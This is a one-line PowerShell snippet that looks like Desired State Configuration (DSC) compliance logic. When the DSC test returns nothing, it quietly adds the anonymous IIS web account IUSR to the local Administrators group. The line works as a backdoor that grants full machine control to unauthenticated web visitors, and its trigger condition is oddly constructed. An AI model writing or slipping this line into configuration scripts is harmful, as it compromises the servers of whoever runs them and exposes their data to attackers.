if (@(Test-DscConfiguration).Count -eq 0) { net localgroup Administrators IUSR /add }
